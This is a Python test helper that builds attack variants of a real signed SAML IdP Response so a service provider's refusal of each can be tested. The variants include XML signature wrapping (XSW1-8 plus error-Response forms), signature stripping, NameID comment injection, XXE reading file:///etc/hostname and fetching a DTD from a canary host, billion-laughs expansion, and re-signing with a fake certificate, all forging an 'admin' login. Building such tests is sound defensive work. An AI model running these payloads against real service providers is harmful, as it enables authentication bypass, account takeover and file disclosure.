#!/usr/bin/env python3
# SPDX-License-Identifier: AGPL-3.0-or-later
"""Builds the classic attacks on a SAML SP from a real, signed IdP Response.

tests/integration/test_saml_attacks.sh captures the Response that
SimpleSAMLphp posts for a legitimate step-up, does not post it, and asks this
program for one attack variant of it, which it then posts for that same
pending flow (so the genuine Response would have been accepted, and only the
attack can explain a refusal).

  saml_attacks.py list
  saml_attacks.py make VARIANT IN.xml OUT.xml [--mfa-class URI] [--evil-key K --evil-cert C]
                                              [--canary URL] [--assertion-from GENUINE.xml]
  saml_attacks.py naive FILE.xml [--idp-cert C]   what a naive SP would conclude (needs xmlsec1)
  saml_attacks.py b64 FILE.xml                    base64 of the file, one line

Variants (after Somorovsky et al., "On Breaking SAML", USENIX Security 2012,
and the SAML Raider XSW list; forged content: NameID "admin", class the MFA
class). The genuine Response has a Response Signature and an Assertion
Signature (SimpleSAMLphp signs both). XSW1/2 wrap at the Response level and
keep the Response Signature; XSW3-8 wrap at the Assertion level and first
drop the Response Signature (a Response signed only in its Assertion is a
legitimate shape, so an SP must still refuse what follows):
  xsw1   root Response gets a new ID and forged content; a copy of the original
         Response (minus its Signature) goes inside the root's Signature
  xsw2   as xsw1, the copy placed just before the Signature instead
  xsw3   unsigned forged Assertion (new ID) inserted before the signed one
  xsw4   forged Assertion (new ID) appended; the signed original moved inside it
  xsw5   the signed Assertion is forged in place (new ID, keeps its Signature);
         an unsigned copy of the original is appended to the Response
  xsw6   as xsw5, the copy placed inside the forged Assertion's Signature
  xsw7   a samlp:Extensions holding an unsigned forged copy with the same ID
  xsw8   forged in place (same ID, keeps its Signature); an unsigned copy of
         the original in a ds:Object inside that Signature
  sigexcl       every ds:Signature removed, forged content
  comment       NameID "alice" becomes "ali<!---->ce": exclusive c14n drops
                comments, so both signatures stay valid; a parser that reads
                the first text node sees "ali"
  doctype       the genuine Response behind a bare <!DOCTYPE> (nothing else wrong)
  xxe           DOCTYPE with an external parameter entity and external general
                entities (file:/// and http://127.0.0.1 canary) used in NameID
  lol           entity expansion ("billion laughs", 10^9 "lol") in NameID
  certfake      forged content, re-signed (Assertion and Response) with a new key
                whose self-signed certificate, with the IdP's subject name, is
                carried in KeyInfo; the metadata key did not sign it
Wrapping a signed *error* Response (IN is the IdP's signed NoAuthnContext
answer to bob; --assertion-from names an earlier genuine Response whose
Assertion becomes the unsigned forgery: NameID admin, the MFA class, this
request's InResponseTo, this response's times). The forged Response says
Success and holds exactly one Assertion, so a "count the assertions" check
alone does not stop these; the next checks must:
  xsw1e  forged root (new ID); the signed error Response inside its Signature
  xsw2e  as xsw1e, the signed error Response just before the Signature
  xsw7e  forged root keeps the signed ID; the signed error Response, same ID,
         inside samlp:Extensions
  xsw8e  forged root (new ID); the signed error Response inside a ds:Object
         of the Signature
Only the Python 3 standard library is used (xml.dom.minidom keeps prefixes,
namespace declarations and attribute order, which exclusive c14n needs);
certfake and naive call the xmlsec1 program.
"""
import base64
import os
import re
import subprocess
import sys
import tempfile
from xml.dom import minidom

NS_P = "urn:oasis:names:tc:SAML:2.0:protocol"
NS_A = "urn:oasis:names:tc:SAML:2.0:assertion"
NS_DS = "http://www.w3.org/2000/09/xmldsig#"
MFA_DEFAULT = "urn:oasis:names:tc:SAML:2.0:ac:classes:MobileTwoFactorContract"
EVIL_NAME = "admin"

VARIANTS = ["xsw1", "xsw2", "xsw3", "xsw4", "xsw5", "xsw6", "xsw7", "xsw8",
            "sigexcl", "comment", "doctype", "xxe", "lol", "certfake",
            "xsw1e", "xsw2e", "xsw7e", "xsw8e"]
ERROR_VARIANTS = ("xsw1e", "xsw2e", "xsw7e", "xsw8e")


def die(msg):
    """Prints msg and exits with status 2 (a usage or input error)."""
    sys.stderr.write("saml_attacks: %s\n" % msg)
    sys.exit(2)


def kids(el, ns, local):
    """Element children of el with namespace ns and local name local."""
    return [c for c in el.childNodes
            if c.nodeType == c.ELEMENT_NODE and c.namespaceURI == ns and c.localName == local]


def one(el, ns, local):
    """The single element child (ns, local) of el; dies when there is not exactly one."""
    k = kids(el, ns, local)
    if len(k) != 1:
        die("expected one %s child of %s, found %d" % (local, el.tagName, len(k)))
    return k[0]


def first_desc(el, ns, local):
    """The first descendant (document order) of el named (ns, local), or None."""
    found = el.getElementsByTagNameNS(ns, local)
    return found[0] if found.length else None


def set_text(el, text):
    """Replaces the children of el by one text node."""
    while el.firstChild is not None:
        el.removeChild(el.firstChild)
    el.appendChild(el.ownerDocument.createTextNode(text))


def forge(assertion, mfa):
    """Writes the attacker's content into an Assertion: NameID admin, the MFA class."""
    name_id = first_desc(assertion, NS_A, "NameID")
    if name_id is None:
        die("the Assertion has no NameID")
    set_text(name_id, EVIL_NAME)
    for ref in assertion.getElementsByTagNameNS(NS_A, "AuthnContextClassRef"):
        set_text(ref, mfa)
    for val in assertion.getElementsByTagNameNS(NS_A, "AttributeValue"):
        if val.firstChild is not None and val.firstChild.nodeType == val.TEXT_NODE \
                and val.firstChild.data.startswith("alice"):
            set_text(val, EVIL_NAME + val.firstChild.data[len("alice"):])


def strip_sig(el):
    """Removes the ds:Signature children of el."""
    for s in kids(el, NS_DS, "Signature"):
        el.removeChild(s)


def evil_id(tag):
    """A fresh ID for an attacker's element."""
    return "_evil_%s_%s" % (tag, os.urandom(10).hex())


def load(path, want_assertion=True):
    """Parses the genuine Response and returns (doc, response, assertion);
    assertion is None when want_assertion is false (an error Response)."""
    with open(path, "rb") as f:
        data = f.read()
    if b"<!DOCTYPE" in data:
        die("the input already has a DOCTYPE")
    doc = minidom.parseString(data)
    resp = doc.documentElement
    if resp.namespaceURI != NS_P or resp.localName != "Response":
        die("the input is not a samlp:Response")
    one(resp, NS_P, "Status")
    if not want_assertion:
        if kids(resp, NS_A, "Assertion"):
            die("the input is not an error Response (it has an Assertion)")
        return doc, resp, None
    return doc, resp, one(resp, NS_A, "Assertion")


def forged_from(doc, resp, template, mfa):
    """An unsigned forged Assertion for the request that resp answers, made
    from the Assertion of an earlier genuine Response (template file)."""
    _, _, a = load(template)
    a = doc.importNode(a, True)
    strip_sig(a)
    forge(a, mfa)
    a.setAttribute("ID", evil_id("assertion"))
    now = resp.getAttribute("IssueInstant")
    a.setAttribute("IssueInstant", now)
    for st in a.getElementsByTagNameNS(NS_A, "AuthnStatement"):
        st.setAttribute("AuthnInstant", now)
    for scd in a.getElementsByTagNameNS(NS_A, "SubjectConfirmationData"):
        scd.setAttribute("InResponseTo", resp.getAttribute("InResponseTo"))
    return a


def xsw_error(variant, doc, resp, mfa, template):
    """xsw1e/2e/7e/8e: a Success Response with one forged Assertion wrapped
    around the IdP's signed error Response."""
    copy = resp.cloneNode(True)
    strip_sig(copy)
    sig = one(resp, NS_DS, "Signature")
    status = one(resp, NS_P, "Status")
    fresh = doc.createElementNS(NS_P, status.tagName)
    code = doc.createElementNS(NS_P, status.tagName.replace("Status", "StatusCode"))
    code.setAttribute("Value", "urn:oasis:names:tc:SAML:2.0:status:Success")
    fresh.appendChild(code)
    resp.replaceChild(fresh, status)
    resp.appendChild(forged_from(doc, resp, template, mfa))
    if variant != "xsw7e":
        resp.setAttribute("ID", evil_id("response"))
    if variant == "xsw1e":
        sig.appendChild(copy)
    elif variant == "xsw2e":
        resp.insertBefore(copy, sig)
    elif variant == "xsw7e":
        ext = doc.createElementNS(NS_P, resp.prefix + ":Extensions" if resp.prefix else "Extensions")
        ext.appendChild(copy)
        resp.insertBefore(ext, fresh)
    else:
        obj = doc.createElementNS(NS_DS, sig.prefix + ":Object" if sig.prefix else "Object")
        obj.appendChild(copy)
        sig.appendChild(obj)
    return xml_of(doc)


def xml_of(doc):
    """Serializes the document without an XML declaration."""
    return doc.documentElement.toxml()


def xsw_response(doc, resp, assertion, mfa, inside):
    """XSW1 (inside=True) and XSW2: wrap the original Response."""
    copy = resp.cloneNode(True)
    strip_sig(copy)
    sig = one(resp, NS_DS, "Signature")
    resp.setAttribute("ID", evil_id("response"))
    forge(assertion, mfa)
    strip_sig(assertion)
    assertion.setAttribute("ID", evil_id("assertion"))
    if inside:
        sig.appendChild(copy)
    else:
        resp.insertBefore(copy, sig)


def unsigned_copy(assertion):
    """A copy of the Assertion without its Signature (same ID, same digest)."""
    c = assertion.cloneNode(True)
    strip_sig(c)
    return c


def make(variant, doc, resp, assertion, mfa, opts):
    """Applies one variant to the parsed genuine Response; returns the XML text."""
    if variant in ERROR_VARIANTS:
        if not opts.get("assertion_from"):
            die("%s needs --assertion-from" % variant)
        return xsw_error(variant, doc, resp, mfa, opts["assertion_from"])
    if variant in ("xsw1", "xsw2"):
        xsw_response(doc, resp, assertion, mfa, variant == "xsw1")
        return xml_of(doc)
    if variant.startswith("xsw"):
        strip_sig(resp)  # XSW3-8 attack the Assertion; the Response signature would break
    if variant == "xsw3":
        evil = unsigned_copy(assertion)
        forge(evil, mfa)
        evil.setAttribute("ID", evil_id("assertion"))
        resp.insertBefore(evil, assertion)
    elif variant == "xsw4":
        evil = unsigned_copy(assertion)
        forge(evil, mfa)
        evil.setAttribute("ID", evil_id("assertion"))
        resp.replaceChild(evil, assertion)
        evil.appendChild(assertion)
    elif variant in ("xsw5", "xsw6", "xsw8"):
        copy = unsigned_copy(assertion)
        sig = one(assertion, NS_DS, "Signature")
        forge(assertion, mfa)
        if variant != "xsw8":
            assertion.setAttribute("ID", evil_id("assertion"))
        if variant == "xsw5":
            resp.appendChild(copy)
        elif variant == "xsw6":
            sig.appendChild(copy)
        else:
            obj = doc.createElementNS(NS_DS, sig.prefix + ":Object" if sig.prefix else "Object")
            sig.appendChild(obj)
            obj.appendChild(copy)
    elif variant == "xsw7":
        evil = unsigned_copy(assertion)
        forge(evil, mfa)
        ext = doc.createElementNS(NS_P, resp.prefix + ":Extensions" if resp.prefix else "Extensions")
        ext.appendChild(evil)
        resp.insertBefore(ext, one(resp, NS_P, "Status"))
    elif variant == "sigexcl":
        for s in list(doc.getElementsByTagNameNS(NS_DS, "Signature")):
            s.parentNode.removeChild(s)
        forge(assertion, mfa)
    elif variant == "comment":
        name_id = first_desc(assertion, NS_A, "NameID")
        text = name_id.firstChild.data if name_id.firstChild is not None else ""
        if len(text) < 2 or len(name_id.childNodes) != 1:
            die("NameID is not a plain text of two characters or more")
        cut = (len(text) + 1) // 2
        while name_id.firstChild is not None:
            name_id.removeChild(name_id.firstChild)
        name_id.appendChild(doc.createTextNode(text[:cut]))
        name_id.appendChild(doc.createComment(""))
        name_id.appendChild(doc.createTextNode(text[cut:]))
    elif variant == "doctype":
        return "<!DOCTYPE %s>\n" % resp.tagName + xml_of(doc)
    elif variant == "xxe":
        canary = opts.get("canary") or "http://127.0.0.1:9/"
        name_id = first_desc(assertion, NS_A, "NameID")
        set_text(name_id, "@@XXE@@")
        body = xml_of(doc).replace("@@XXE@@", "&xfile;&xhttp;")
        return ("<!DOCTYPE %s [\n"
                "  <!ENTITY %% xdtd SYSTEM \"%sxxe.dtd\">\n"
                "  %%xdtd;\n"
                "  <!ENTITY xfile SYSTEM \"file:///etc/hostname\">\n"
                "  <!ENTITY xhttp SYSTEM \"%sxxe-general\">\n"
                "]>\n" % (resp.tagName, canary, canary)) + body
    elif variant == "lol":
        name_id = first_desc(assertion, NS_A, "NameID")
        set_text(name_id, "@@LOL@@")
        body = xml_of(doc).replace("@@LOL@@", "&lol9;")
        ents = ['  <!ENTITY lol "lol">']
        prev = "lol"
        for i in range(1, 10):
            ents.append('  <!ENTITY lol%d "%s">' % (i, ("&%s;" % prev) * 10))
            prev = "lol%d" % i
        return "<!DOCTYPE %s [\n%s\n]>\n" % (resp.tagName, "\n".join(ents)) + body
    elif variant == "certfake":
        return certfake(doc, resp, assertion, mfa, opts)
    else:
        die("unknown variant %r (try: list)" % variant)
    return xml_of(doc)


def blank_signature(sig):
    """Turns a ds:Signature back into an xmlsec1 template: empty digest and
    signature values, and an empty X509Data for xmlsec1 to fill."""
    for tag in ("DigestValue", "SignatureValue"):
        for el in sig.getElementsByTagNameNS(NS_DS, tag):
            set_text(el, "")
    for ki in kids(sig, NS_DS, "KeyInfo"):
        while ki.firstChild is not None:
            ki.removeChild(ki.firstChild)
        p = sig.prefix + ":" if sig.prefix else ""
        ki.appendChild(sig.ownerDocument.createElementNS(NS_DS, p + "X509Data"))


def xmlsec_sign(xml, xpath, key, cert):
    """Signs the Signature template found by xpath with xmlsec1; returns the XML."""
    with tempfile.TemporaryDirectory() as d:
        src, out = os.path.join(d, "in.xml"), os.path.join(d, "out.xml")
        with open(src, "w") as f:
            f.write(xml)
        r = subprocess.run(["xmlsec1", "--sign", "--privkey-pem", "%s,%s" % (key, cert),
                            "--id-attr:ID", "%s:Response" % NS_P,
                            "--id-attr:ID", "%s:Assertion" % NS_A,
                            "--node-xpath", xpath, "--output", out, src],
                           capture_output=True, text=True)
        if r.returncode != 0:
            die("xmlsec1 --sign failed: %s" % r.stderr.strip()[-500:])
        with open(out) as f:
            text = f.read()
    return re.sub(r"^<\?xml[^>]*\?>\s*", "", text)


def certfake(doc, resp, assertion, mfa, opts):
    """Forges the content and re-signs Assertion, then Response, with the
    attacker's key; the attacker's certificate travels in KeyInfo."""
    key, cert = opts.get("evil_key"), opts.get("evil_cert")
    if not key or not cert:
        die("certfake needs --evil-key and --evil-cert")
    forge(assertion, mfa)
    rsig = one(resp, NS_DS, "Signature")
    saved = rsig.cloneNode(True)
    resp.removeChild(rsig)
    blank_signature(one(assertion, NS_DS, "Signature"))
    xml = xmlsec_sign(xml_of(doc), "//*[local-name()='Assertion']/*[local-name()='Signature']",
                      key, cert)
    doc2 = minidom.parseString(xml)
    resp2 = doc2.documentElement
    blank_signature(saved)
    sig2 = doc2.importNode(saved, True)
    resp2.insertBefore(sig2, one(resp2, NS_A, "Issuer").nextSibling)
    return xmlsec_sign(xml_of(doc2), "/*/*[local-name()='Signature']", key, cert)


def path(el, steps):
    """Follows first element children named by steps [(ns, local), ...]; None when absent."""
    for ns, local in steps:
        if el is None:
            return None
        k = kids(el, ns, local)
        el = k[0] if k else None
    return el


def naive(file, idp_cert):
    """What a naive SP concludes: xmlsec1 on the first Signature (with the
    IdP certificate, or trusting KeyInfo when none is given) and the NameID,
    read as its first text node, and the class ref of the Response's first
    Assertion child (or of the first Assertion anywhere when the Response
    has none)."""
    cmd = ["xmlsec1", "--verify", "--id-attr:ID", "%s:Response" % NS_P,
           "--id-attr:ID", "%s:Assertion" % NS_A]
    cmd += ["--pubkey-cert-pem", idp_cert] if idp_cert else ["--insecure"]
    r = subprocess.run(cmd + [file], capture_output=True, text=True)
    verdict = "OK" if r.returncode == 0 else "FAIL"
    try:
        with open(file, "rb") as f:
            data = f.read()
        if b"<!DOCTYPE" in data:
            print("%s - (DOCTYPE: not parsed here)" % verdict)
            return
        doc = minidom.parseString(data)
        root = doc.documentElement
        top = kids(root, NS_A, "Assertion")
        a = top[0] if top else first_desc(root, NS_A, "Assertion")
        n = path(a, [(NS_A, "Subject"), (NS_A, "NameID")])
        who = n.firstChild.data if n is not None and n.firstChild is not None \
            and n.firstChild.nodeType == n.TEXT_NODE else "-"
        c = path(a, [(NS_A, "AuthnStatement"), (NS_A, "AuthnContext"),
                     (NS_A, "AuthnContextClassRef")])
        cls = c.firstChild.data if c is not None and c.firstChild is not None else "-"
    except Exception as e:  # the point is to report, not to parse strictly
        who, cls = "(unparsable: %s)" % e.__class__.__name__, "-"
    print("%s %s %s" % (verdict, who, cls))


def main(argv):
    """Command line entry point."""
    if len(argv) < 2:
        die(__doc__.split("\n\n")[1])
    cmd = argv[1]
    opts = {}
    rest = []
    i = 2
    while i < len(argv):
        a = argv[i]
        if a in ("--mfa-class", "--evil-key", "--evil-cert", "--canary", "--idp-cert",
                 "--assertion-from"):
            if i + 1 >= len(argv):
                die("%s needs a value" % a)
            opts[a[2:].replace("-", "_")] = argv[i + 1]
            i += 2
        else:
            rest.append(a)
            i += 1
    if cmd == "list":
        print("\n".join(VARIANTS))
    elif cmd == "make" and len(rest) == 3:
        variant, src, dst = rest
        doc, resp, assertion = load(src, variant not in ERROR_VARIANTS)
        out = make(variant, doc, resp, assertion, opts.get("mfa_class") or MFA_DEFAULT, opts)
        with open(dst, "w") as f:
            f.write(out)
    elif cmd == "naive" and len(rest) == 1:
        naive(rest[0], opts.get("idp_cert"))
    elif cmd == "b64" and len(rest) == 1:
        with open(rest[0], "rb") as f:
            print(base64.b64encode(f.read()).decode())
    else:
        die("bad command line (see the top of this file)")


if __name__ == "__main__":
    main(sys.argv)
